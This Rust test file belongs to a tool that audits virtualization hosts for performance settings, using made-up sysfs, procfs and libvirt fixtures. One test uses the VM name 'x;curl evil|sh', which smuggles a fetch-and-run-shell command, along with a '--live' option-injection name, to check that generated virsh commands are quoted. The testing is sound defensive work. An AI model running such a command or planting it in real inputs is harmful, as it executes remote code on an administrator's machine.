//! Each check in each of its states. Trees here are made up after the kernel's documents, a few files each, and say
//! so; one captured on a real machine is in vsteer-host's tests.

mod mitigations;
mod running;
mod tuned;

use super::*;
use std::collections::BTreeMap;
use vsteer_core::CpuSet;

fn tree(files: &[(&str, &str)]) -> Tree {
    Tree {
        files: files.iter().map(|(p, t)| ((*p).to_owned(), (*t).to_owned())).collect(),
        unread: BTreeMap::new(),
    }
}

fn with(files: Vec<(String, String)>) -> Tree {
    Tree { files: files.into_iter().collect(), unread: BTreeMap::new() }
}

/// What a check says of a setting.
fn said(t: &Tree, check: &str, setting: &str) -> (State, String) {
    let all = audit(t);
    let found = all.iter().find(|f| f.check == check && f.setting.starts_with(setting));
    let found = found.unwrap_or_else(|| panic!("{check} says nothing of {setting}: {all:#?}"));
    if found.state == State::Not {
        assert!(found.risk.is_some() && found.change.is_some() && found.undo.is_some(), "{found:?}");
    }
    (found.state, found.reason.clone())
}

use State::{AsItShould as Good, DoesNotApply as None_, Not};

#[test]
fn nothing_is_told_of_an_empty_tree() {
    for f in audit(&Tree::default()) {
        assert_eq!(f.state, None_, "{f:?}");
    }
}

#[test]
fn names_are_unique_and_each_check_says_something() {
    let (mut names, mut docs) = (BTreeMap::new(), BTreeMap::new());
    let of_nothing = audit(&Tree::default());
    for check in CHECKS {
        assert!(names.insert(check.name, ()).is_none(), "two checks are called {}", check.name);
        assert!(docs.insert(check.doc, ()).is_none(), "two checks are documented as {:?}", check.doc);
        assert!(!check.doc.is_empty() && !check.name.contains(char::is_whitespace), "{}", check.name);
        // Of a machine that has none of its files, too, or nobody learns that it was looked for.
        assert!(of_nothing.iter().any(|f| f.check == check.name), "{} says nothing", check.name);
    }
}

/// Files, check, setting, what it says.
type Case = (&'static [(&'static str, &'static str)], &'static str, &'static str, State);

const AMD: (&str, &str) = ("/proc/cpuinfo", "vendor_id : AuthenticAMD\nflags : svm\n");
const GUEST: (&str, &str) = ("/proc/cpuinfo", "flags : hypervisor sse2\n");
/// Each check's settings in their states.
const CASES: &[Case] = &[
    (
        &[AMD, ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "acpi-cpufreq")],
        "scaling",
        "scaling driver",
        Not,
    ),
    (
        &[AMD, ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "amd-pstate-epp")],
        "scaling",
        "scaling driver",
        Good,
    ),
    (
        &[
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "amd-pstate-epp"),
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "powersave"),
        ],
        "scaling",
        "governor",
        Good,
    ),
    (
        &[
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "acpi-cpufreq"),
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "powersave"),
        ],
        "scaling",
        "governor",
        Not,
    ),
    (
        &[
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "acpi-cpufreq"),
            ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "ondemand"),
            ("/sys/devices/system/cpu/cpu1/cpufreq/scaling_governor", "performance"),
        ],
        "scaling",
        "governor",
        Not,
    ),
    (&[("/sys/devices/system/cpu/amd_pstate/status", "passive\n")], "pstate", "amd_pstate", Not),
    (&[("/sys/devices/system/cpu/amd_pstate/status", "guided\n")], "pstate", "amd_pstate", Good),
    (&[("/sys/devices/system/cpu/intel_pstate/status", "off\n")], "pstate", "intel_pstate", None_),
    (
        &[("/sys/devices/system/cpu/cpu0/cpufreq/energy_performance_preference", "power")],
        "energy",
        "energy",
        Not,
    ),
    (
        &[("/sys/devices/system/cpu/cpu0/cpufreq/energy_performance_preference", "performance")],
        "energy",
        "energy",
        Good,
    ),
    (
        &[
            ("/sys/devices/system/cpu/cpu0/cpuidle/state2/name", "C2"),
            ("/sys/devices/system/cpu/cpu0/cpuidle/state2/disable", "1"),
        ],
        "idle",
        "idle states",
        Not,
    ),
    (
        &[
            ("/sys/devices/system/cpu/cpu0/cpuidle/state0/name", "POLL"),
            ("/sys/devices/system/cpu/cpu0/cpuidle/state0/disable", "0"),
        ],
        "idle",
        "idle states",
        Good,
    ),
    (&[("/sys/devices/system/cpu/cpufreq/boost", "0")], "boost", "boost", Not),
    (&[("/sys/devices/system/cpu/intel_pstate/no_turbo", "0")], "boost", "boost", Good),
    (
        &[
            ("/sys/devices/system/cpu/smt/control", "on"),
            ("/sys/devices/system/cpu/vulnerabilities/mds", "Mitigation: Clear CPU buffers; SMT vulnerable"),
        ],
        "smt",
        "SMT",
        Not,
    ),
    (&[("/sys/devices/system/cpu/smt/control", "off")], "smt", "SMT", Good),
    (&[("/sys/devices/system/cpu/vulnerabilities/mds", "Not affected")], "mitigations", "mds", None_),
    (&[("/sys/devices/system/cpu/vulnerabilities/mds", "Vulnerable")], "mitigations", "mds", Not),
    (
        &[GUEST, ("/sys/devices/system/cpu/vulnerabilities/mds", "Mitigation: x")],
        "mitigations",
        "mds (in this guest)",
        Good,
    ),
    (&[("/sys/module/kvm/parameters/halt_poll_ns", "400000")], "halt_polling", "halt", Not),
    (&[("/sys/module/kvm/parameters/halt_poll_ns", "200000")], "halt_polling", "halt", Good),
    (
        &[("/proc/sys/kernel/numa_balancing", "0"), ("/sys/devices/system/node/online", "0-1")],
        "numa_balancing",
        "NUMA",
        Not,
    ),
    (
        &[("/proc/sys/kernel/numa_balancing", "0"), ("/sys/devices/system/node/online", "0")],
        "numa_balancing",
        "NUMA",
        None_,
    ),
    (
        &[("/sys/kernel/mm/transparent_hugepage/enabled", "always madvise [never]")],
        "huge_pages",
        "transparent",
        Not,
    ),
    (
        &[
            ("/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages", "512"),
            ("/sys/kernel/mm/hugepages/hugepages-2048kB/free_hugepages", "512"),
        ],
        "huge_pages",
        "static",
        Not,
    ),
    (&[("/sys/class/iommu/dmar0/uevent", "")], "iommu", "IOMMU", Good),
    (
        &[
            GUEST,
            ("/sys/devices/system/cpu/online", "0-7"),
            ("/sys/class/net/eth0/queues/tx-0/xps_cpus", "00"),
        ],
        "queues",
        "queues of eth0",
        Not,
    ),
    (
        &[
            ("/sys/class/powercap/intel-rapl:0/constraint_0_power_limit_uw", "100000000"),
            ("/sys/class/powercap/intel-rapl:0/constraint_0_max_power_uw", "280000000"),
            ("/sys/class/powercap/intel-rapl:0/name", "package-0"),
        ],
        "power_caps",
        "power limit of package-0",
        Not,
    ),
    (
        &[
            ("/sys/devices/system/clocksource/clocksource0/current_clocksource", "hpet"),
            ("/sys/devices/system/clocksource/clocksource0/available_clocksource", "tsc hpet"),
        ],
        "clocksource",
        "clocksource",
        Not,
    ),
    (&[("/proc/cmdline", "ro idle=poll quiet")], "command_line", "kernel word idle", Not),
    (&[("/proc/cmdline", "ro isolcpus=2-3")], "command_line", "kernel word isolcpus", Good),
    (&[("/proc/cmdline", "ro quiet")], "command_line", "kernel command line", Good),
    (&[("/sys/module/kvm_amd/parameters/nested", "1")], "nested", "nested", Good),
];

#[test]
fn each_setting_has_its_states() {
    for (files, check, setting, state) in CASES {
        assert_eq!(said(&tree(files), check, setting).0, *state, "{check} of {files:?}");
    }
    // Definitions of VMs and tuned's profiles fill trees of tests of their own.
    const ELSEWHERE: [&str; 3] = ["balloon", "pinning", "tuned"];
    for check in CHECKS {
        let has = CASES.iter().any(|(_, name, _, state)| *name == check.name && *state != None_);
        assert!(has != ELSEWHERE.contains(&check.name), "{} has no tree in which it applies", check.name);
    }
}

/// What captured machines showed that made-up ones had not: `lab run audit` holds these on the machines themselves.
#[test]
fn what_a_tree_lacks_is_not_as_it_should_be() {
    const ACPI: (&str, &str) = ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_driver", "acpi-cpufreq");
    const GOVERNOR: &str = "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor";
    let amd = |family: u32, model: u32| {
        let text = format!(
            "vendor_id\t: AuthenticAMD\ncpu family\t: {family}\nmodel\t\t: {model}\nmodel name\t: x\n"
        );
        said(&tree(&[ACPI, ("/proc/cpuinfo", &text)]), "scaling", "scaling driver").0
    };
    // An Opteron, an EPYC 7451 (Zen 1), one of Zen 2, one of Zen 4.
    assert_eq!([amd(21, 2), amd(23, 1), amd(23, 49), amd(25, 17)], [Good, Good, Not, Not]);
    let governor = |g: &str| said(&tree(&[ACPI, (GOVERNOR, g)]), "scaling", "governor");
    assert!(governor("performance").1.contains("highest") && governor("ondemand").1.contains("follows"));
    assert_eq!((governor("userspace").0, said(&tree(&[ACPI]), "scaling", "governor").0), (Not, None_));
    const ON: (&str, &str) = ("/sys/devices/system/cpu/smt/control", "on");
    const HUGE: &str = "/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages";
    for (files, check, setting) in [
        (&[ON][..], "smt", "SMT"),
        (&[("/sys/devices/system/cpu/cpu0/cpuidle/state0/name", "POLL")], "idle", "idle states"),
        (&[("/proc/sys/kernel/numa_balancing", "0")], "numa_balancing", "NUMA"),
        (&[(HUGE, "512")], "huge_pages", "static"),
    ] {
        assert_eq!(said(&tree(files), check, setting).0, None_, "{check}");
    }
    let safe = [ON, ("/sys/devices/system/cpu/vulnerabilities/mds", "Not affected")];
    assert_eq!(said(&tree(&safe), "smt", "SMT").0, Good);
}

#[test]
fn guests_are_told_from_hosts() {
    let guest = |files: &[(&str, &str)]| tree(files).is_guest();
    assert!(guest(&[("/proc/sysinfo", "LPAR Name: A\nVM00 Control Program: KVM/Linux\n")]));
    assert!(!guest(&[("/proc/sysinfo", "LPAR Name: A\n")]));
    assert!(guest(&[("/proc/device-tree/hypervisor/compatible", "linux,kvm")]));
    assert!(guest(&[("/sys/hypervisor/type", "xen")]));
    assert!(!guest(&[("/sys/hypervisor/type", "xen"), ("/proc/xen/capabilities", "control_d\n")]));
    // Arm has no flag: the firmware's names, as clouds give them.
    const ARM: (&str, &str) =
        ("/proc/cpuinfo", "processor\t: 0\nFeatures\t: fp asimd evtstrm aes\nCPU implementer\t: 0x41\n");
    let arm = |vendor: &str, product: &str| {
        guest(&[ARM, ("/sys/class/dmi/id/sys_vendor", vendor), ("/sys/class/dmi/id/product_name", product)])
    };
    for (vendor, product) in [
        ("Amazon EC2", "m7g.large"),
        ("QEMU", "KVM Virtual Machine"),
        ("QEMU", "QEMU Virtual Machine"),
        ("Google", "Google Compute Engine"),
        ("Microsoft Corporation", "Virtual Machine"),
        ("OpenStack Foundation", "OpenStack Nova"),
    ] {
        assert!(arm(vendor, product), "{vendor} {product}");
    }
    for (vendor, product) in [
        ("Amazon EC2", "c6g.metal\n"),
        ("Amazon EC2", "m8g.metal-24xl"),
        ("Ampere(R)", "Mt. Jade"),
        ("HPE", "ProLiant RL300 Gen11"),
        ("Microsoft Corporation", "Surface Pro X"),
    ] {
        assert!(!arm(vendor, product), "{vendor} {product}");
    }
    assert!(guest(&[ARM, ("/proc/device-tree/compatible", "linux,dummy-virt\0")]));
    assert!(
        !guest(&[ARM, ("/proc/device-tree/compatible", "raspberrypi,5-model-b\0brcm,bcm2712\0")])
            && !guest(&[ARM])
    );
    // x86 says it itself, whatever its firmware's name is.
    assert!(!guest(&[("/proc/cpuinfo", "flags\t: vmx\n"), ("/sys/class/dmi/id/sys_vendor", "Amazon EC2")]));
}

const VM: &str = "<domain type='kvm'>
  <name>web</name>
  <memory unit='KiB'>4194304</memory>
  <currentMemory unit='KiB'>2097152</currentMemory>
  <vcpu placement='static'>4</vcpu>
  <cputune>
    <vcpupin vcpu='0' cpuset='1'/>
    <vcpupin vcpu='1' cpuset='1'/>
  </cputune>
  <devices>
    <interface type='bridge'>
      <model type='virtio'/>
      <driver name='vhost' queues='2'/>
    </interface>
  </devices>
</domain>";

/// A running VM of this name, whose vCPUs may run on these pCPUs.
fn pinned(name: &str, pid: u32, pins: &[&str]) -> Vec<(String, String)> {
    let n = pins.len();
    let line = format!(
        "qemu-system-x86_64\0-name\0guest={name},debug-threads=on\0-smp\0cpus={n},sockets=1,cores={n},threads=1\0"
    );
    let all = |pid: u32| (format!("/proc/{pid}/status"), "Cpus_allowed_list:\t0-15\n".to_owned());
    let vcpu = |(i, cpus): (u32, &&str)| {
        let task = format!("/proc/{pid}/task/{}", pid + 1 + i);
        let status = (format!("{task}/status"), format!("Cpus_allowed_list:\t{cpus}\n"));
        [(format!("{task}/comm"), format!("CPU {i}/KVM\n")), status]
    };
    let mut files = vec![(format!("/proc/{pid}/cmdline"), line), all(pid)];
    files.extend((0..).zip(pins).flat_map(vcpu));
    files
}

fn host_of(vms: &[Vec<(String, String)>]) -> Tree {
    let mut tree = tree(&[("/sys/devices/system/cpu/online", "0-15\n")]);
    for cpu in 0..16 {
        let path = format!("/sys/devices/system/cpu/cpu{cpu}/topology/thread_siblings_list");
        tree.files.insert(path, format!("{},{}\n", cpu % 8, cpu % 8 + 8));
    }
    tree.files.extend(vms.iter().flatten().cloned());
    tree
}

#[test]
fn pins_that_crowd_vcpus_are_found_though_their_sets_differ() {
    let t = host_of(&[pinned("a", 100, &["1-2", "1-2", "1"])]);
    assert_eq!(said(&t, "pinning", "pins of VM \"a\"").0, Not);
    assert!(said(&t, "pinning", "pins of VM \"a\"").1.contains("3 vCPUs on pCPUs 1-2"));
    // Each can have one, if the first makes room.
    let t = host_of(&[pinned("a", 100, &["1-3", "1-2", "1", "3-4"])]);
    assert_eq!(said(&t, "pinning", "pins of VM \"a\"").0, Good);
}

/// Against all subsets, for sets of up to four pCPUs.
#[test]
fn crowded_vcpus_are_those_with_too_few_pcpus() {
    let mut seed = 7_u64;
    let mut draw = |below: u64| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) % below
    };
    let mut found = [0, 0];
    for _ in 0..3_000 {
        let bits: Vec<u64> = (0..1 + draw(6)).map(|_| 1 + draw(15)).collect();
        let sets: Vec<CpuSet> =
            bits.iter().map(|bits| (0..4).filter(|cpu| bits >> cpu & 1 == 1).collect()).collect();
        let short = (1..1_u32 << bits.len()).any(|of| {
            let union = (0..bits.len()).filter(|i| of >> i & 1 == 1).fold(0, |all, i| all | bits[i]);
            union.count_ones() < of.count_ones()
        });
        let crowded = pinning::crowded(&sets.iter().collect::<Vec<_>>());
        assert_eq!(crowded.is_some(), short, "{bits:?}");
        found[usize::from(short)] += 1;
        if let Some((vcpus, cpus)) = crowded {
            let union = vcpus.iter().fold(CpuSet::new(), |all, i| all.union(&sets[*i]));
            assert!(union == cpus && cpus.len() < vcpus.len(), "{bits:?} {vcpus:?}");
        }
    }
    assert!(found.iter().all(|n| *n > 300), "{found:?}");
}

#[test]
fn vms_pinned_to_the_same_pcpus_are_found_while_others_are_free() {
    let two = [pinned("b", 200, &["3", "4"]), pinned("c", 300, &["3", "4"])];
    let t = host_of(&two);
    assert_eq!(said(&t, "pinning", "pins of VM \"b\"").0, Good);
    let (state, reason) = said(&t, "pinning", "pins of several VMs");
    assert_eq!(state, Not);
    assert!(reason.contains("no vCPU is pinned to pCPUs 0-2,5-15"), "{reason}");
    // A third VM is crowded by itself, on the only other pCPU.
    let mut small = host_of(&[pinned("a", 100, &["5", "5"]), two[0].clone(), two[1].clone()]);
    small.files.insert("/sys/devices/system/cpu/online".into(), "3-5\n".into());
    assert!(audit(&small).iter().all(|f| f.setting != "pins of several VMs"));
    // Sets that the host leaves to all its VMs are no pins of one.
    let shared = host_of(&[pinned("b", 200, &["4-5"; 4]), pinned("c", 300, &["4-5"; 4])]);
    assert!(audit(&shared).iter().all(|f| f.setting != "pins of several VMs"));
    // pCPUs 0 to 2 are the host's own.
    let mut isolated = host_of(&two);
    isolated.files.insert("/proc/cmdline".into(), "ro isolcpus=domain,3-4\n".into());
    assert!(audit(&isolated).iter().all(|f| f.setting != "pins of several VMs"));
    // All pCPUs have pinned vCPUs, so the host is overcommitted on purpose.
    let each: Vec<String> = (0..16).map(|cpu| cpu.to_string()).collect();
    let each: Vec<&str> = each.iter().map(String::as_str).collect();
    let t = host_of(&[pinned("b", 200, &each), pinned("c", 300, &["3", "4"])]);
    assert!(audit(&t).iter().all(|f| f.setting != "pins of several VMs"));
}

/// Any user can choose the name of a VM, and an administrator copies the command.
#[test]
fn names_are_quoted_in_commands() {
    let xml = VM.replace("<name>web</name>", "<name>x;curl evil|sh</name>");
    for f in audit(&tree(&[("/etc/libvirt/qemu/web.xml", &xml)])) {
        for command in [&f.change, &f.undo].into_iter().flatten().filter(|c| c.contains("virsh")) {
            assert!(command.contains("'x;curl evil|sh'"), "{command}");
        }
    }
    let mut vm = pinned("x;curl evil|sh", 100, &["1", "1"]);
    let line = vm.iter_mut().find(|(path, _)| path.ends_with("cmdline")).unwrap();
    line.1.push_str("-object\0qom-type=secret,id=masterKey0\0");
    let found = audit(&host_of(&[vm]));
    let change = found.iter().find_map(|f| f.change.as_ref().filter(|c| c.contains("vcpupin"))).unwrap();
    assert!(change.contains("virsh vcpupin 'x;curl evil|sh' 0"), "{change}");
    // virsh would take the name for an option.
    let xml = VM.replace("<name>web</name>", "<name>--live</name>");
    let found = audit(&tree(&[("/etc/libvirt/qemu/web.xml", &xml)]));
    let commands: Vec<&String> = found.iter().flat_map(|f| [&f.change, &f.undo]).flatten().collect();
    let named: Vec<_> = commands.iter().filter(|c| c.contains("virsh")).collect();
    assert!(!named.is_empty() && named.iter().all(|c| c.contains(" --domain=--live ")), "{named:?}");
}

#[test]
fn vcpus_on_the_threads_of_a_core_are_found_if_the_guest_sees_two_cores() {
    let t = host_of(&[pinned("d", 400, &["5", "13"])]);
    assert_eq!(said(&t, "pinning", "threads per core of VM \"d\"").0, Not);
    let mut shown = t.clone();
    let line = shown.files.get_mut("/proc/400/cmdline").unwrap();
    *line = line.replace("cores=2,threads=1", "cores=1,threads=2");
    for fine in
        [shown, host_of(&[pinned("d", 400, &["5", "12"])]), host_of(&[pinned("d", 400, &["5,13", "5,13"])])]
    {
        assert!(audit(&fine).iter().all(|f| !f.setting.starts_with("threads per core")));
    }
}

#[test]
fn metadata_of_a_definition_is_not_read() {
    let xml = VM.replace(
        "<memory",
        "<metadata><app xmlns='http://example.org/app'><vcpu>64</vcpu></app></metadata><memory",
    );
    assert_eq!(definition::vcpus_of(&definition::reduced(&xml)), 4);
}

#[test]
fn definitions_of_vms_are_read() {
    let of = |xml: &str| tree(&[("/etc/libvirt/qemu/web.xml", xml)]);
    let t = of(VM);
    assert!(said(&t, "pinning", "pins of VM \"web\"").1.contains("2 vCPUs on pCPU 1:"));
    assert_eq!(said(&t, "balloon", "memory of VM \"web\"").0, Not);
    assert_eq!(said(&t, "queues", "queues of network of VM \"web\"").0, Not);
    let half = VM.replace("cpuset='1'/>\n  </cputune>", "cpuset='2'/>\n  </cputune>");
    assert!(said(&of(&half), "pinning", "pins").1.contains("only some"));
    let none =
        VM.replace("<vcpupin", "<other").replace("2097152", "4194304").replace("queues='2'", "queues='4'");
    let t = of(&none);
    assert_eq!(
        [said(&t, "pinning", "pins").0, said(&t, "balloon", "memory").0, said(&t, "queues", "queues").0],
        [Good; 3]
    );
    // Truncated text is not an error.
    for n in 0..VM.len() {
        drop((audit(&of(&VM[..n])), audit(&of(&definition::reduced(&VM[..n])))));
    }
    let secret = VM.replace("<devices>", "<metadata>hunter2</metadata><devices><graphics passwd='hunter2'/>");
    let kept = definition::reduced(&secret);
    assert!(!kept.contains("hunter2") && definition::reduced(&kept) == kept, "{kept}");
    assert_eq!(audit(&of(&kept)), audit(&of(VM)));
}

#[test]
fn a_profile_that_is_not_in_force_is_told() {
    let profile = "[main]\ninclude=base\n[cpu]\ngovernor=performance\n[sysctl]\nvm.swappiness = 10\n";
    let base = "[sysctl]\nvm.swappiness=30\nkernel.x=${f:v}\nvm.dirty_ratio=40|20\n";
    let with = |more: &[(&str, &str)]| {
        let mut t = tree(&[
            ("/etc/tuned/active_profile", "fast\n"),
            ("/usr/lib/tuned/fast/tuned.conf", profile),
            ("/usr/lib/tuned/base/tuned.conf", base),
        ]);
        t.files.extend(tree(more).files);
        t
    };
    let t = with(&[
        ("/proc/sys/vm/swappiness", "10"),
        ("/proc/sys/vm/dirty_ratio", "20"),
        ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "performance"),
    ]);
    assert_eq!(said(&t, "tuned", "tuned profile").0, Good);
    let t = with(&[
        ("/proc/sys/vm/swappiness", "60"),
        ("/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "performance"),
    ]);
    let (state, why) = said(&t, "tuned", "tuned profile");
    assert!(state == Not && why.contains("vm.swappiness=10: the value in force is 60"), "{why}");
    let mut t = with(&[]);
    t.files.remove("/usr/lib/tuned/fast/tuned.conf");
    assert_eq!(said(&t, "tuned", "tuned profile").0, Not);
}

#[test]
fn switching_mitigations_off_is_never_proposed() {
    let t = tree(&[
        ("/sys/devices/system/cpu/vulnerabilities/spectre_v2", "Mitigation: Retpolines"),
        ("/sys/devices/system/cpu/vulnerabilities/mds", "Vulnerable"),
        ("/proc/cmdline", "ro mitigations=off"),
    ]);
    for f in audit(&t) {
        let change = f.change.unwrap_or_default();
        assert!(!change.contains("mitigations=off") || change.starts_with("remove"), "{change}");
        if f.check == "mitigations" && f.state == State::Not {
            assert!(
                f.reason.contains("SECURITY") && f.reason.contains("mitigations=off is on"),
                "{}",
                f.reason
            );
        }
    }
}

#[test]
fn virtio_devices_alone_have_queues_to_give() {
    const GUEST: [(&str, &str); 2] =
        [("/proc/cpuinfo", "flags : hypervisor\n"), ("/sys/devices/system/cpu/online", "0-7")];
    let names = [
        "lo", "eth0", "enp1s0", "ens5", "eth0.5", "docker0", "veth1a2b", "br-1f2e", "virbr0", "wg0", "tun0",
        "bond0",
    ];
    let queues: Vec<String> =
        names.iter().map(|n| format!("/sys/class/net/{n}/queues/tx-0/xps_cpus")).collect();
    let told = |more: &[(&str, &str)]| -> Vec<String> {
        let files = queues.iter().map(|q| (q.as_str(), "00")).chain(GUEST).chain(more.iter().copied());
        let all = audit(&tree(&files.collect::<Vec<_>>()));
        all.into_iter().filter(|f| f.check == "queues").map(|f| f.setting).collect()
    };
    let buses = [
        ("/sys/class/net/eth0/device/modalias", "virtio:d00000001v00001AF4\n"),
        ("/sys/class/net/ens5/device/modalias", "pci:v00001D0Fd0000EC20sv00001D0Fsd0000EC20bc02sc00i00\n"),
    ];
    assert_eq!(told(&buses), ["queues of eth0"]);
    assert_eq!(told(&buses[1..]), ["virtio queues"]);
    // A tree of before buses were captured.
    assert_eq!(told(&[]), ["queues of enp1s0", "queues of ens5", "queues of eth0"]);
}

#[test]
fn every_processor_must_be_quick() {
    let of = |preferences: &[&str]| {
        let files = preferences.iter().enumerate().map(|(n, p)| {
            (format!("/sys/devices/system/cpu/cpu{n}/cpufreq/energy_performance_preference"), (*p).to_owned())
        });
        said(&with(files.collect()), "energy", "energy preference")
    };
    let (state, why) = of(&["performance", "performance", "power", "balance_power", "performance"]);
    assert!(state == Not && why.contains("2 of 5 CPUs prefer to save"), "{why}");
    assert_eq!(of(&["performance", "balance_performance", "default"]).0, Good);
    assert_eq!(of(&["balance_power", "balance_power"]), (Not, "the processors prefer to save energy".into()));
}

#[test]
fn a_bound_of_a_profile_is_a_bound() {
    let of = |wanted: &str, in_force: &str| {
        let profile = format!("[sysctl]\nnet.core.rmem_max={wanted}\n");
        let t = tree(&[
            ("/etc/tuned/active_profile", "fast\n"),
            ("/usr/lib/tuned/fast/tuned.conf", &profile),
            ("/proc/sys/net/core/rmem_max", in_force),
        ]);
        said(&t, "tuned", "tuned profile").0
    };
    for (wanted, in_force) in [
        (">1048576", "1048576"),
        (">1048576", "4194304"),
        ("\">16384\"", "16385"),
        ("<10", "9"),
        ("10", "10"),
    ] {
        assert_eq!(of(wanted, in_force), Good, "{wanted}: {in_force}");
    }
    for (wanted, in_force) in [(">1048576", "212992"), ("<10", "11"), ("10", "11"), (">10", "x")] {
        assert_eq!(of(wanted, in_force), Not, "{wanted}: {in_force}");
    }
}
